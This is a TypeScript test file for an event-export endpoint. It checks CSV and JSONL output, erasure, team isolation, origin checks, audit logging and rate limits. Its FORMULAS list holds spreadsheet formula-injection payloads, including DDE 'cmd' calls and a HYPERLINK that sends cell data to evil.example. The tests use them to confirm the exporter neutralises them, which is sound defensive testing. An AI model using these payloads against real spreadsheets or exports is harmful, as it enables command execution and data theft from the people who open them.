import http from 'node:http';
import Papa from 'papaparse';
import { expect, it } from 'vitest';
import { ORIGIN, PASSWORD, startLoginTrial } from '../../../../test/support/login-trial.ts';
import { everyDatabase } from '../../../../test/support/postgres.ts';
import {
  bearer,
  envelope,
  eventId,
  listenTrial,
  OTHER_PROJECT,
  PROJECT,
  send,
  startTrial,
  type Trial,
} from '../../../../test/support/receiver-trial.ts';
import { sha256Hex } from '../../../base/index.ts';
import { operatorScope } from '../../auth.ts';
import { readAudit } from '../../identity/administration.ts';
import { EXPORTS } from '../../limits.ts';
import { erase } from '../../operations/erasing.ts';
import { rebuildViews } from '../../views/catch-up.ts';
import { csvOf } from '../csv.ts';

async function take(
  trial: Pick<Trial, 'app'>,
  query: string,
  { cookie = '', origin = ORIGIN, key = keyOf(cookie) } = {},
): Promise<Response> {
  const headers = { cookie, origin, 'content-type': 'application/x-www-form-urlencoded' };
  const body = `${query}&form_key=${key}`;
  return trial.app.fetch(new Request(`${ORIGIN}/events/export`, { method: 'POST', headers, body }));
}

function keyOf(cookie: string): string {
  return sha256Hex(`form ${cookie.split('=')[1] ?? ''}`);
}

/** The rows of a file by the names of its first line. */
async function rowsOf(response: Response): Promise<readonly Readonly<Record<string, string>>[]> {
  expect(response.status).toBe(200);
  const text = await response.text();
  const { data, errors } = Papa.parse<Readonly<Record<string, string>>>(text, {
    header: true,
    skipEmptyLines: true,
  });
  expect(errors).toEqual([]);
  return data;
}

const PLACES = await everyDatabase();

it.each(PLACES)('writes all that is asked for, whole and in order, on %s', async (_on, placeOf) => {
  const trial = await startTrial({}, await placeOf());
  const at = (n: number) => new Date(Date.UTC(2026, 2, 14) + n * 1_000).toISOString();
  const events = Array.from({ length: 330 }, (_, n) =>
    envelope(n, {
      timestamp: at(n),
      project_uuid: n % 5 === 0 ? OTHER_PROJECT : PROJECT,
      event_type: n % 2 === 0 ? 'WPAssigned' : 'SomethingNew',
    }),
  );
  // An id that two projects have is two events.
  await send(trial, [...events, envelope(1, { timestamp: at(1), project_uuid: OTHER_PROJECT })]);
  await rebuildViews(trial.store);
  const all = await rowsOf(await take(trial, 'format=csv'));
  expect(all).toHaveLength(331);
  expect(all.map(({ happened }) => happened)).toEqual(
    all.map(({ happened = '' }) => happened).toSorted((one, other) => (one < other ? 1 : -1)),
  );
  const odd = await rowsOf(await take(trial, `format=csv&project=${PROJECT}&type=SomethingNew`));
  const wanted = Array.from({ length: 330 }, (_, n) => n).filter((n) => n % 5 !== 0 && n % 2 === 1);
  expect(odd.map(({ event_id }) => event_id)).toEqual(wanted.toReversed().map(eventId));
  expect(odd[0]).toMatchObject({
    project: PROJECT,
    type: 'SomethingNew',
    producer: '0123456789ab',
    work_package: 'WP01',
    findings: 'unknown_type',
    arrived: '2026-03-14T09:26:53.000Z',
    erased: '',
    payload: '{"wp_id":"WP01","agent_id":"ann","phase":"implementation"}',
  });
  const lines = await take(trial, `format=jsonl&project=${OTHER_PROJECT}`);
  const items = (await lines.text())
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as { event_id: string; envelope: { event_id: string } });
  expect(items).toHaveLength(67);
  expect(items.every((item) => item.envelope.event_id === item.event_id)).toBe(true);
});

it('keeps each event in one line, with its numbers as they came, and nothing of an erased one', async () => {
  const trial = await startTrial();
  const text = envelope(1, { payload: { number: 0 } }).toString();
  const bytes = Buffer.from(
    text.replace('{"number":0}', '{\r\n\t"number": 1.0e2,\n"big":12345678901234567890}'),
  );
  await send(trial, [bytes, envelope(2, { payload: { secret: 'swordfish' } })]);
  await erase(trial.store, { team: operatorScope('local'), eventId: eventId(2) }, trial.clock);
  const lines = (await (await take(trial, 'format=jsonl')).text()).split('\n');
  expect(lines).toHaveLength(3);
  expect(lines[1]).toContain('"number": 1.0e2, "big":12345678901234567890');
  expect(lines[0]).toContain('"erased":"2026-03-14T09:26:53.000Z","envelope":null}');
  const rows = await rowsOf(await take(trial, 'format=csv'));
  expect(rows.map(({ payload }) => payload)).toEqual([
    '',
    '{  \t"number": 1.0e2, "big":12345678901234567890}',
  ]);
});

/** What a spreadsheet would compute, run or ask elsewhere for. */
const FORMULAS = [
  '=1+1',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=1\n+1',
  '=1\r\n"+1',
  "-2+3+cmd|' /C calc'!A0",
  '",=1+1,"',
  '=1+1"',
  '"=1+1"',
  'a,b\n=1+1',
];

it.each(FORMULAS)('gives a spreadsheet %j as a text', (text) => {
  const csv = csvOf([[text, 7, text]]);
  const { data } = Papa.parse<readonly string[]>(csv);
  const [[first = '', second, third = ''] = []] = data;
  expect([data.length, second, third]).toEqual([1, '7', first]);
  expect(first).toBe(/^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text);
});

it('lets no formula of a sender into a file', async () => {
  const trial = await startTrial();
  await send(
    trial,
    FORMULAS.map((text, n) =>
      envelope(n, {
        event_type: text.replaceAll(/[^!-~]/g, ''),
        node_id: text.replaceAll(/[^!-~]/g, ''),
        aggregate_id: text.replaceAll(/\p{Cc}/gu, ''),
        payload: { mission_slug: text, wp_id: text },
      }),
    ),
  );
  const rows = await rowsOf(await take(trial, 'format=csv'));
  expect(rows).toHaveLength(FORMULAS.length);
  const cells = rows.flatMap((row) => Object.values(row));
  expect(cells.filter((cell) => /^[=+\-@\t\r\n]/.test(cell))).toEqual([]);
  expect(rows.map(({ type = '' }) => type)).toContain("'=1+1");
});

it('hands a file out as a file, and remembers who took what', async () => {
  const trial = await startTrial();
  await send(trial, [envelope(1)]);
  const response = await take(trial, `format=csv&project=${PROJECT}&type=%3D1%22%0D%0A`);
  expect(response.headers.get('content-disposition')).toBe(
    'attachment; filename="events-2026-03-14.csv"',
  );
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
  expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
  expect(await response.text()).toMatch(/^event_id,project,.*\r\n$/);
  const { entries, brokenAt } = await readAudit(trial.store, 1);
  expect(brokenAt).toBeNull();
  expect(entries[0]).toMatchObject({
    actor: 'local',
    action: 'events.exported',
    subject: `csv project=${PROJECT}&type=%3D1%22%0D%0A`,
  });
  for (const query of ['', 'format=xlsx', 'format=constructor', 'format=csv&project=x']) {
    expect((await take(trial, query)).status).toBe(400);
  }
  expect((await readAudit(trial.store, 10)).entries).toHaveLength(1);
});

it('writes no file that would lack what is not folded yet', async () => {
  const trial = await startTrial();
  for (let from = 0; from < 2_600; from += 650) {
    await send(
      trial,
      Array.from({ length: 650 }, (_, n) => envelope(from + n)),
    );
  }
  const early = await take(trial, 'format=csv');
  expect([early.status, early.headers.get('retry-after')]).toEqual([503, '5']);
  expect(await rowsOf(await take(trial, 'format=csv'))).toHaveLength(2_600);
});

it('writes a team’s own events alone', async () => {
  const trial = await startLoginTrial();
  await trial.person('ann@kitty.example', { harbour: 'owner' });
  await trial.person('zoe@kitty.example', { orchard: 'owner' });
  const zoe = await trial.login('zoe@kitty.example', 'orchard');
  await send(trial, [envelope(1)], bearer(zoe.access));
  const ann = await trial.login('ann@kitty.example');
  await send(trial, [envelope(2, { project_uuid: OTHER_PROJECT })], bearer(ann.access));
  const { cookie } = await trial.page('/login', {
    username: 'ann@kitty.example',
    password: PASSWORD,
  });
  const ids = async (query: string) =>
    (await rowsOf(await take(trial, query, { cookie }))).map(({ event_id }) => event_id);
  expect(await ids('format=csv')).toEqual([eventId(2)]);
  expect(await ids(`format=csv&project=${PROJECT}`)).toEqual([]);
  expect((await take(trial, 'format=csv')).status).toBe(303);
  const foreign = { cookie, origin: 'https://evil.example' };
  expect((await take(trial, 'format=csv', foreign)).status).toBe(403);
  expect((await take(trial, 'format=csv', { cookie, key: 'x' })).status).toBe(403);
});

it('cuts a file off that its reader does not take, and leaves its place to others', async () => {
  const trial = await startTrial({ streamPatience: { slowMs: 300 } });
  const payload = { text: 'x'.repeat(100_000) };
  for (let from = 0; from < 400; from += 5) {
    await send(
      trial,
      [0, 1, 2, 3, 4].map((n) => envelope(from + n, { payload })),
    );
  }
  await rebuildViews(trial.store);
  const { url } = await listenTrial(trial);
  const open = (): Promise<http.IncomingMessage> =>
    new Promise((resolve, reject) => {
      const headers = { origin: url, 'content-type': 'application/x-www-form-urlencoded' };
      http
        .request(`${url}/events/export`, { agent: false, method: 'POST', headers }, resolve)
        .on('error', reject)
        .end(`format=jsonl&form_key=${keyOf('')}`);
    });
  const slow = await Promise.all(Array.from({ length: EXPORTS.address }, open));
  for (const response of slow) response.pause();
  expect(slow.map(({ statusCode }) => statusCode)).toEqual(slow.map(() => 200));
  const more = await open();
  expect(more.statusCode).toBe(429);
  more.resume();
  await expect
    .poll(
      async () => {
        const next = await Promise.all(slow.map(open));
        for (const response of next) response.destroy();
        return next.map(({ statusCode }) => statusCode);
      },
      { timeout: 20_000, interval: 200 },
    )
    .toEqual(slow.map(() => 200));
  for (const response of slow) {
    response.on('error', () => {});
    const over = new Promise((resolve) => response.on('close', resolve));
    response.resume();
    await over;
    expect(response.complete).toBe(false);
  }
}, 60_000);
